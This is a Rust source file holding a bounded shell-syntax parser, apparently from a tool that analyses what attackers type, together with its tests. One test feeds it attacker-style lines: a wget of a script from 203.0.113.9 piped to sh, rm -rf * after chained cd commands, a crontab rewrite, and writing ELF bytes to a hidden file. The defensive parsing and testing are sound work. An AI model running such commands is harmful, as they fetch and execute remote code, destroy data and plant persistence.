//! Shell text to a small syntax tree: enough of the POSIX grammar for what attackers type.
//!
//! The grammar is XCU chapter 2 less functions, `case` and job control. Depth and size have limits; text beyond them is a
//! syntax error, never a hang.

use super::lex::{self, Token};

/// Nested groups, loops and conditions.
const DEPTH: usize = 16;
/// Commands of one text.
const COMMANDS: usize = 512;

/// One piece of a word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Piece {
    /// Literal text; quoted text is neither split nor globbed.
    Text(String, bool),
    /// A parameter: what stands between `${` and `}`.
    Var(String, bool),
    /// A command substitution.
    Run(String, bool),
    /// An arithmetic expansion.
    Math(String),
}

/// A word before expansion.
pub(super) type Word = Vec<Piece>;

/// Where a redirection leads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Redirect {
    /// `n> word` or `n>> word`.
    Out { fd: u8, append: bool, to: Word },
    /// `&> word`.
    Both { append: bool, to: Word },
    /// `n>&m`.
    Dup { fd: u8, to: u8 },
    /// `< word`.
    In { from: Word },
    /// `<< word` with its text.
    Here { text: String, expand: bool },
}

/// How a command follows the one before.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Link {
    /// `;`, `&` or a new line.
    Then,
    /// `&&`.
    And,
    /// `||`.
    Or,
}

/// A command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Command {
    /// Words and redirections.
    Simple(Vec<Word>, Vec<Redirect>),
    /// `a | b | c`, possibly negated.
    Pipe(Vec<Self>, bool),
    /// Commands in order.
    List(Vec<(Link, Self)>),
    /// `if`: conditions with what they lead to, and the rest.
    If(Vec<(Self, Self)>, Option<Box<Self>>),
    /// `while` or `until` (true).
    Loop(bool, Box<Self>, Box<Self>),
    /// `for name in words`.
    For(String, Vec<Word>, Box<Self>),
    /// A group or subshell with redirections.
    Group(Box<Self>, Vec<Redirect>),
}

/// Why text is no command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Fault {
    /// More text is needed: an open quote, group or here-document.
    Incomplete,
    /// An unexpected token.
    Syntax(String),
}

/// Reads a whole text.
pub(super) fn parse(text: &str) -> Result<Command, Fault> {
    let tokens = lex::tokens(text)?;
    let mut parser = Parser { tokens, at: 0, depth: 0, commands: 0 };
    let list = parser.list(&[])?;
    match parser.peek() {
        Token::End => Ok(list),
        other => Err(Fault::Syntax(show(other))),
    }
}

fn show(token: &Token) -> String {
    match token {
        Token::Op("\n") | Token::End => "newline".to_owned(),
        Token::Op(op) => (*op).to_owned(),
        Token::Word(word) => literal(word).unwrap_or_else(|| "word".to_owned()),
        Token::Redirect(_) => ">".to_owned(),
    }
}

/// The text of a word without expansions or quotes, for keywords and names.
fn literal(word: &Word) -> Option<String> {
    match word.as_slice() {
        [Piece::Text(text, false)] => Some(text.clone()),
        _ => None,
    }
}

struct Parser {
    tokens: Vec<Token>,
    at: usize,
    depth: usize,
    commands: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        self.tokens.get(self.at).unwrap_or(&Token::End)
    }

    fn is_op(&self, op: &str) -> bool {
        matches!(self.peek(), Token::Op(o) if *o == op)
    }

    fn eat_op(&mut self, op: &str) -> bool {
        let is = self.is_op(op);
        self.at += usize::from(is);
        is
    }

    fn keyword(&self) -> Option<String> {
        match self.peek() {
            Token::Word(word) => literal(word),
            _ => None,
        }
    }

    fn eat_keyword(&mut self, word: &str) -> bool {
        let is = self.keyword().as_deref() == Some(word);
        self.at += usize::from(is);
        is
    }

    fn expect(&mut self, word: &str) -> Result<(), Fault> {
        if self.eat_keyword(word) { Ok(()) } else { Err(self.fault()) }
    }

    fn fault(&self) -> Fault {
        match self.peek() {
            Token::End => Fault::Incomplete,
            other => Fault::Syntax(show(other)),
        }
    }

    /// A list up to the end, a closing parenthesis or one of the `stop` words.
    fn list(&mut self, stop: &[&str]) -> Result<Command, Fault> {
        self.depth += 1;
        if self.depth > DEPTH {
            return Err(Fault::Syntax("(".to_owned()));
        }
        let mut out = Vec::new();
        let mut link = Link::Then;
        loop {
            while self.is_op("\n") || (self.is_op(";") && !out.is_empty() && link == Link::Then) {
                self.at += 1;
            }
            let stops = self.keyword().is_some_and(|k| stop.contains(&k.as_str()));
            if matches!(self.peek(), Token::End) || self.is_op(")") || stops {
                if link != Link::Then {
                    return Err(self.fault());
                }
                break;
            }
            let pipe = self.pipe()?;
            out.push((link, pipe));
            link = if self.eat_op("&&") {
                Link::And
            } else if self.eat_op("||") {
                Link::Or
            } else if self.eat_op(";") || self.eat_op("&") || self.eat_op("\n") {
                Link::Then
            } else if matches!(self.peek(), Token::End) || self.is_op(")") {
                break;
            } else {
                return Err(self.fault());
            };
        }
        self.depth -= 1;
        Ok(Command::List(out))
    }

    fn pipe(&mut self) -> Result<Command, Fault> {
        let negated = self.eat_keyword("!");
        let mut parts = vec![self.command()?];
        while self.eat_op("|") {
            while self.eat_op("\n") {}
            parts.push(self.command()?);
        }
        match (negated, parts.pop()) {
            (false, Some(only)) if parts.is_empty() => Ok(only),
            (_, last) => {
                parts.extend(last);
                Ok(Command::Pipe(parts, negated))
            }
        }
    }

    fn command(&mut self) -> Result<Command, Fault> {
        self.commands += 1;
        if self.commands > COMMANDS {
            return Err(Fault::Syntax(";".to_owned()));
        }
        if self.eat_op("(") {
            let body = self.list(&[])?;
            if !self.eat_op(")") {
                return Err(self.fault());
            }
            return Ok(Command::Group(Box::new(body), self.redirects()));
        }
        match self.keyword().as_deref() {
            Some("{") => {
                self.at += 1;
                let body = self.list(&["}"])?;
                self.expect("}")?;
                Ok(Command::Group(Box::new(body), self.redirects()))
            }
            Some("if") => {
                let condition = self.condition()?;
                Ok(self.with_redirects(condition))
            }
            Some(word @ ("while" | "until")) => {
                self.at += 1;
                let until = word == "until";
                let test = self.list(&["do"])?;
                let body = self.body()?;
                Ok(self.with_redirects(Command::Loop(until, Box::new(test), Box::new(body))))
            }
            Some("for") => {
                let looped = self.for_loop()?;
                Ok(self.with_redirects(looped))
            }
            Some(word @ ("then" | "fi" | "do" | "done" | "else" | "elif" | "}")) => Err(Fault::Syntax(word.to_owned())),
            _ => self.simple(),
        }
    }

    fn body(&mut self) -> Result<Command, Fault> {
        self.expect("do")?;
        let body = self.list(&["done"])?;
        self.expect("done")?;
        Ok(body)
    }

    fn condition(&mut self) -> Result<Command, Fault> {
        let mut arms = Vec::new();
        let mut other = None;
        self.at += 1;
        loop {
            let test = self.list(&["then"])?;
            self.expect("then")?;
            let body = self.list(&["elif", "else", "fi"])?;
            arms.push((test, body));
            if self.eat_keyword("elif") {
                continue;
            }
            if self.eat_keyword("else") {
                other = Some(Box::new(self.list(&["fi"])?));
            }
            self.expect("fi")?;
            return Ok(Command::If(arms, other));
        }
    }

    fn for_loop(&mut self) -> Result<Command, Fault> {
        self.at += 1;
        let name = self.keyword().ok_or_else(|| self.fault())?;
        self.at += 1;
        let mut words = Vec::new();
        if self.eat_keyword("in") {
            while let Token::Word(word) = self.peek() {
                words.push(word.clone());
                self.at += 1;
            }
        }
        while self.eat_op(";") || self.eat_op("\n") {}
        let body = self.body()?;
        Ok(Command::For(name, words, Box::new(body)))
    }

    fn redirects(&mut self) -> Vec<Redirect> {
        let mut out = Vec::new();
        while let Token::Redirect(redirect) = self.peek() {
            out.push(redirect.clone());
            self.at += 1;
        }
        out
    }

    /// A loop or condition with the redirections behind its last word.
    fn with_redirects(&mut self, command: Command) -> Command {
        let redirects = self.redirects();
        if redirects.is_empty() { command } else { Command::Group(Box::new(command), redirects) }
    }

    fn simple(&mut self) -> Result<Command, Fault> {
        let (mut words, mut redirects) = (Vec::new(), Vec::new());
        loop {
            match self.peek() {
                Token::Word(word) => words.push(word.clone()),
                Token::Redirect(redirect) => redirects.push(redirect.clone()),
                _ => break,
            }
            self.at += 1;
        }
        if words.is_empty() && redirects.is_empty() { Err(self.fault()) } else { Ok(Command::Simple(words, redirects)) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn count(command: &Command) -> usize {
        match command {
            Command::List(list) => list.len(),
            _ => 1,
        }
    }

    #[test]
    fn reads_what_attackers_type() {
        for (text, commands) in [
            ("cd /tmp; wget http://203.0.113.9/x.sh -O- | sh", 2),
            ("cd /tmp || cd /var/run || cd /mnt && rm -rf *;", 4),
            ("for i in a b; do echo $i; done", 1),
            ("if [ -f /x ]; then echo y; else echo n; fi; id", 2),
            ("while true; do sleep 1; done &", 1),
            ("echo -ne '\\x7f\\x45' > .x 2>/dev/null", 1),
            ("cat <<EOF > /tmp/a\nline\nEOF\nls", 2),
            ("(crontab -l; echo x) | crontab -", 1),
            ("", 0),
            ("# only a remark", 0),
        ] {
            assert_eq!(parse(text).map(|c| count(&c)), Ok(commands), "{text}");
        }
    }

    #[test]
    fn tells_unfinished_from_wrong() {
        for text in ["echo 'a", "echo \"a", "if true; then", "cat <<EOF\nx", "(ls", "echo $(ls", "a &&"] {
            assert_eq!(parse(text), Err(Fault::Incomplete), "{text}");
        }
        for text in [")", "| a", "&& b", "done", "> ;", "fi"] {
            assert!(matches!(parse(text), Err(Fault::Syntax(_))), "{text}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        assert!(parse(&"(".repeat(4000)).is_err());
        assert!(parse(&"if ".repeat(1000)).is_err());
    }

    proptest! {
        #[test]
        fn any_text_is_read_without_panic(text in "[ -~\n]{0,200}") {
            let _ = parse(&text);
        }
    }
}
